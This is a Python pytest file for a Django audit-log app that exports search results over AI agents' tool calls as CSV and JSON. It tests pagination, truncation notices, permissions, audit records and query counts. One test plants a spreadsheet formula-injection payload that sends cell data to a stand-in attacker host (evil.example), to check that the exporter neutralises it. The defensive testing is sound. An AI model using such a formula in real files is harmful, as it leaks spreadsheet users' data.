"""Owns the checks of the results of a search as files: all of them, the same as on the page, with a stated end, and recorded."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client

from auditlog.errors import Problem
from auditlog.export import table
from auditlog.search import sessions
from auditlog.web import results
from tests.asked import asked
from tests.db.api.conftest import World, person
from tests.db.api.test_access import recorded, text
from tests.db.api.test_search_page import DAY, call, send


def file(client: Client, path: str, **given: str) -> bytes:
    answer = client.get(path, given)
    assert answer.status_code == 200, answer.content
    assert "attachment" in answer["Content-Disposition"] and "no-store" in answer["Cache-Control"]
    return b"".join(answer.streaming_content)  # type: ignore[attr-defined]


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_the_credit_is_one_row_with_times_numbers_and_a_link_to_its_step(refund: World, operator: Client) -> None:
    (row,) = rows(file(operator, "/results.csv", tool="issue_credit", tz="Asia/Tokyo"))
    assert row["amount"] == "400" and row["currency"] == "USD" and row["object"] == "cr_55120" and row["customers"] == "ACME-2024"
    assert row["time_utc"].startswith("2026-11-22T10:13") and row["time_utc"].endswith("Z")
    assert row["time_local"].startswith("2026-11-22T19:13") and row["time_local"].endswith("+09:00") and row["time_zone"] == "Asia/Tokyo"
    assert row["outcome"] == "returned" and row["page"].startswith("http://testserver/sessions/")
    assert f'id="step-{row["step"]}"' in text(operator.get(row["page"].removeprefix("http://testserver").split("#")[0]))
    found = json.loads(file(operator, "/results.json", tool="issue_credit"))
    (same,) = found["results"]
    assert same["amount"] == "400" and same["customers"] == ["ACME-2024"] and same["time_utc"] == row["time_utc"]
    assert (
        found["search"] == {"tool": "issue_credit", "from": "2026-10-24"} and found["made_by"] == "operator" and found["project"] == "one"
    )
    assert found["cut_short"] is None and found["rows"] == "actions" and found["made_at"].endswith("Z")


def test_all_pages_are_in_the_file_each_row_once_in_the_order_of_the_ledger(
    world: World, operator: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(results, "_PORTION", "3")
    send(world, *(call(f"s{n}", DAY + timedelta(hours=n, minutes=m), "pay", m) for n in range(10) for m in range(6)))
    found = rows(file(operator, "/results.csv"))
    assert [(row["session_id"], int(row["step"])) for row in found] == [
        (f"s{n}", m + 1) for n in range(9, -1, -1) for m in range(5, -1, -1)
    ]
    found = rows(file(operator, "/results.csv", view="sessions", cursor="nonsense", limit="2"))  # a place in the list is none of a file
    assert [row["session_id"] for row in found] == [f"s{n}" for n in range(9, -1, -1)] and found[0]["tool_calls"] == "6"


@pytest.mark.parametrize("view", ["", "sessions"])
def test_a_file_that_is_cut_says_so_in_its_last_line_and_one_that_is_just_full_does_not(
    world: World, operator: Client, monkeypatch: pytest.MonkeyPatch, view: str
) -> None:
    monkeypatch.setattr(results, "_PORTION", "2")
    send(world, *(call(f"s{n}", DAY + timedelta(hours=n), "pay") for n in range(7)))
    for most, cut in ((7, False), (6, True), (4, True)):
        monkeypatch.setattr(results, "MOST", most)
        found = rows(file(operator, "/results.csv", view=view))
        last = next(iter(found[-1].values()))
        assert last.startswith("Cut short") is cut and len(found) == most + cut
        held = json.loads(file(operator, "/results.json", view=view))
        assert len(held["results"]) == most and bool(held["cut_short"]) is cut


def test_the_page_says_beforehand_how_much_a_file_holds_and_links_the_same_search(refund: World, operator: Client) -> None:
    page = text(operator.get("/?tool=issue_credit&from=2026-01-01&view=sessions"))
    assert 'href="/results.csv?tool=issue_credit&amp;from=2026-01-01&amp;view=sessions"' in page and "at most 10,000 rows" in page


def test_a_database_that_gives_up_half_way_leaves_a_file_that_says_so(
    world: World, operator: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(results, "_PORTION", "2")
    send(world, *(call(f"s{n}", DAY + timedelta(hours=n), "pay") for n in range(5)))
    page, asks = sessions.page, 0

    def failing(*given: Any, **more: Any) -> sessions.Page:
        nonlocal asks
        asks += 1
        if asks % 2 == 0:
            raise Problem("query_timeout", "The database did not find the answer in 1 seconds.")
        return page(*given, **more)

    monkeypatch.setattr(sessions, "page", failing)
    found = rows(file(operator, "/results.csv"))
    assert len(found) == 3 and found[-1]["time_utc"].startswith("Cut short: The database did not find")
    held = json.loads(file(operator, "/results.json"))
    assert len(held["results"]) == 2 and "There may be more" in held["cut_short"]


def test_without_the_right_to_content_the_columns_with_content_are_not_there(refund: World) -> None:
    viewer = person(refund.project, "vera", "viewer")
    for path in ("/results.csv", "/results.json"):
        for view in ("", "sessions"):
            data = file(viewer, path, view=view).decode()
            assert "ACME-2024" in data
            for word in ("cr_55120", "400", "charged", "amount", "request"):
                assert word not in data, (path, view, word)
    assert viewer.get("/results.csv?value=cr_55120").status_code == 403
    assert "cr_55120" not in text(viewer.get("/results.csv?amount_min=1"))


def test_a_search_that_cannot_be_read_is_no_file(world: World, operator: Client) -> None:
    for query in ("trace_id=zz", "bogus=1", "tool=a&tool=b", "when=never"):
        answer = operator.get(f"/results.csv?{query}")
        assert answer.status_code == 400 and answer["Content-Type"].startswith("text/html"), query
    assert Client().get("/results.json").status_code == 302
    assert rows(file(operator, "/results.csv")) == []
    assert json.loads(file(operator, "/results.json"))["results"] == []


def test_a_file_is_recorded_with_its_filters_before_anything_of_it_is_sent(refund: World, operator: Client) -> None:
    before = len(recorded(refund))
    file(operator, "/results.csv", tool="issue_credit")
    file(operator, "/results.json", view="sessions")
    found = [(one["action"], one["about"]) for one in recorded(refund)[before:]]
    assert found == [
        (
            "results.download",
            {"filters": {"tool": "issue_credit", "from": "2026-10-24"}, "rows": "actions", "format": "csv", "content": True},
        ),
        ("results.download", {"filters": {"from": "2026-10-24"}, "rows": "sessions", "format": "json", "content": True}),
    ]


def test_another_project_has_nothing_of_it_in_its_file(refund: World) -> None:
    olga = person(refund.other, "olga", "investigator")
    assert rows(file(olga, "/results.csv")) == [] and rows(file(olga, "/results.csv", view="sessions")) == []


def test_no_cell_of_what_agents_sent_acts_in_a_spreadsheet(world: World, operator: Client) -> None:
    formula = '=HYPERLINK("https://evil.example/"&A1,"open")'
    send(world, call(formula, DAY, formula, arguments={"amount_usd": -5}, result={"credit_id": "@SUM(1)"}, call_id="+1"))
    (row,) = rows(file(operator, "/results.csv"))
    assert row["tool"] == row["session_id"] == "'" + formula and table.unguarded(row["tool"]) == formula
    assert row["call_id"] == "'+1" and row["amount"] in ("-5", "5")


def test_a_file_is_read_as_far_as_it_was_sent(world: World, operator: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(results, "_PORTION", "2")
    send(world, *(call(f"s{n}", DAY + timedelta(hours=n), "pay") for n in range(9)))
    page, asks = sessions.page, []

    def counted(*given: Any, **more: Any) -> sessions.Page:
        found = page(*given, **more)
        asks.append(len(found.rows))
        return found

    monkeypatch.setattr(sessions, "page", counted)
    answer: Any = operator.get("/results.csv")
    sent = iter(answer.streaming_content)
    held = [next(sent), next(sent)]
    assert asks == [2] and held[1].count(b"\r\n") == 2
    assert sum(part.count(b"\r\n") for part in sent) == 7 and asks == [2, 2, 2, 2, 1]


def test_more_rows_ask_no_more_of_the_database(world: World, operator: Client) -> None:
    counts = []
    for first, last in ((0, 2), (2, 40)):
        send(world, *(call(f"s{n}", DAY + timedelta(hours=n), "pay", m) for n in range(first, last) for m in range(3)))
        operator.get("/")
        with asked() as statements:
            file(operator, "/results.csv")
        counts.append(len(statements))
    assert counts[0] == counts[1]
